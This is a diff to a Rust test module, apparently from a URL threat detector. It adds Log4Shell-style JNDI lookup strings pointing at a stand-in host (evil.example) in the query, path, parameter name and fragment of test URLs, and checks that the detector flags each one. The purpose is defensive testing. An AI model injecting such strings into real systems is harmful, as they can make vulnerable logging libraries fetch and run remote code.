@@ -281,11 +281,16 @@ mod tests {
             assert!(marked(url).is_empty(), "{url}");
         }
         // The fast path sends it to the analysis at every threshold.
-        let url = b"https://v.example/?q=${jndi:ldap://evil.example/x}";
-        assert!(!crate::triage::is_plain_at(
-            url,
-            crate::warnings::Severity::High
-        ));
+        for url in [
+            "https://v.example/?q=${jndi:ldap://evil.example/x}",
+            "https://v.example/a${jndi:dns://evil.example}",
+            "https://v.example/?${jndi:dns://evil.example}=1",
+            "https://v.example/#${jndi:dns://evil.example}",
+        ] {
+            assert!(!marked(url).is_empty(), "{url}");
+            let high = crate::warnings::Severity::High;
+            assert!(!crate::triage::is_plain_at(url.as_bytes(), high), "{url}");
+        }
     }
 
     /// Hostile nesting: deep, unclosed, long, in linear time.
